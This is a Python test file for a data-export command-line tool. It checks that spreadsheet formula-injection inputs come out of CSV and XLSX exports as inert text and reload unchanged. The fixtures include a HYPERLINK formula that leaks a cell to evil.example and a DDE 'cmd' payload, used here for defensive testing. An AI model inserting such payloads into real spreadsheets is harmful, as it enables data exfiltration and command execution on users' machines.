"""Formula injection: text a user typed that a spreadsheet would run (=HYPERLINK(…), +, -, @)
is exported as text — a quoted CSV cell, an XLSX string cell — and the export loads back to
the same records. Through the command line, on both backends."""

from __future__ import annotations

import csv
from pathlib import Path

import pytest
from openpyxl import load_workbook
from stdnum.cn.uscc import calc_check_digit

from bioecon.cli import main
from bioecon.io.formula_guard import FORMULA_STARTS

LINK = '=HYPERLINK("http://evil.example/?"&A1,"点击查看")'


def run(capsys: pytest.CaptureFixture[str], *args: str) -> tuple[int, str]:
    try:
        main(list(args))
        code = 0
    except SystemExit as done:
        code = int(done.code or 0)
    captured = capsys.readouterr()
    return code, captured.out + captured.err


def uscc(n: int) -> str:
    body = f"91430100{n:08d}X"[:17]
    return body + calc_check_digit(body)


def assert_xlsx_has_no_formula(path: Path, expected_texts: set[str]) -> None:
    """Every cell is a value (no formula), and each dangerous text is there as itself."""
    sheet = load_workbook(path).worksheets[0]  # not data_only: a formula would show as one
    cells = [cell for row in sheet.iter_rows() for cell in row if cell.value is not None]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    assert expected_texts <= {c.value for c in cells}


def assert_csv_is_safe(path: Path, expected_cells: set[str]) -> None:
    with path.open(encoding="utf-8-sig", newline="") as stream:
        cells = [cell for row in csv.reader(stream) for cell in row]
    # a negative number is a number, not a formula; every text cell starts harmlessly
    starts = {
        c for c in cells if c and c[0] in FORMULA_STARTS and not c[1:].replace(".", "").isdigit()
    }
    assert not starts
    assert expected_cells <= set(cells)


def test_observation_sources_stay_text_and_reload_unchanged(
    database_url: str, capsys: pytest.CaptureFixture[str], changsha_plan_file: Path, tmp_path: Path
) -> None:
    db = ["--db", database_url]
    assert run(capsys, *db, "plan", "load", str(changsha_plan_file))[0] == 0
    data = tmp_path / "data.csv"
    # the file's own cells: a source written by a hostile hand, and one already quoted
    data.write_text(
        "indicator,org_unit,period,value,basis,source\n"
        f'biomed_scale,430100,2025-01,82.5,ytd,"{LINK.replace(chr(34), chr(34) * 2)}"\n'
        "biomed_scale,430100,2025-02,3,ytd,@SUM(A1:A9)\n"
        # a quote before a formula start is the mark itself (Excel's), not part of the text
        "biomed_scale,430100,2025-03,170,ytd,'+1 报送\n",
        encoding="utf-8",
    )
    code, out = run(capsys, *db, "data", "load", str(data), "--status", "approved")
    assert code == 0, out
    for form in ("csv", "xlsx"):
        exported = tmp_path / f"export.{form}"
        code, out = run(
            capsys, *db, "data", "export", "--indicator", "biomed_scale",
            "--format", form, "--out", str(exported),
        )  # fmt: skip
        assert code == 0, out
        if form == "xlsx":
            assert_xlsx_has_no_formula(exported, {LINK, "@SUM(A1:A9)", "+1 报送"})
        else:
            assert_csv_is_safe(exported, {"'" + LINK, "'@SUM(A1:A9)", "'+1 报送"})
        code, out = run(capsys, *db, "data", "load", str(exported), "--status", "approved")
        assert code == 0 and "0 inserted, 0 updated, 3 unchanged" in out, out


def test_enterprise_names_stay_text_and_reload_unchanged(
    database_url: str, capsys: pytest.CaptureFixture[str], changsha_plan_file: Path, tmp_path: Path
) -> None:
    db = ["--db", database_url]
    assert run(capsys, *db, "plan", "load", str(changsha_plan_file))[0] == 0
    registry = tmp_path / "registry.csv"
    registry.write_text(
        "统一社会信用代码,企业名称,区域,经营范围\n"
        f'{uscc(1)},"{LINK.replace(chr(34), chr(34) * 2)}",430100,生物药品生产\n'
        f"{uscc(2)},-2+3 生物,430100,\"=cmd|' /C calc'!A0\"\n",
        encoding="utf-8",
    )
    assert run(capsys, *db, "enterprises", "load", str(registry))[0] == 0
    for form in ("csv", "xlsx"):
        exported = tmp_path / f"registry-export.{form}"
        code, out = run(capsys, *db, "enterprises", "export", "--out", str(exported))
        assert code == 0, out
        texts = {LINK, "-2+3 生物", "=cmd|' /C calc'!A0"}
        if form == "xlsx":
            assert_xlsx_has_no_formula(exported, texts)
        else:
            assert_csv_is_safe(exported, {"'" + text for text in texts})
        code, out = run(capsys, *db, "enterprises", "load", str(exported))
        assert code == 0 and "0 created, 0 updated" in out, out


def test_classify_output_is_formula_safe(
    capsys: pytest.CaptureFixture[str], tmp_path: Path
) -> None:
    source = tmp_path / "in.csv"
    source.write_text(
        "name,industry_code,business_scope\n=1+2,2761,生物药品生产\n@x,,-研发\n", encoding="utf-8"
    )
    out_file = tmp_path / "out.csv"
    code, out = run(capsys, "classify", str(source), "--out", str(out_file))
    assert code == 0, out
    assert_csv_is_safe(out_file, {"'=1+2", "'@x", "'-研发"})
